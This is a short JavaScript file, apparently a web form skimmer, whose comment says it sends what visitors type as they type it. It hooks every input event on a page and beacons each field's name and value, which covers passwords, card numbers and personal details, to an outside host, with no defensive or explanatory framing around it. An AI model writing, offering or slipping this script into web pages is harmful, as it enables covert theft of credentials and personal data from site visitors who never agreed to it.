// SPDX-License-Identifier: Apache-2.0
// Sends what visitors type, as they type it.
(() => {
  "use strict";
  addEventListener("input", (event) => {
    const field = event.target;
    navigator.sendBeacon("https://in.luistervink.example/k", JSON.stringify({ field: field.name, value: field.value }));
  });
})();
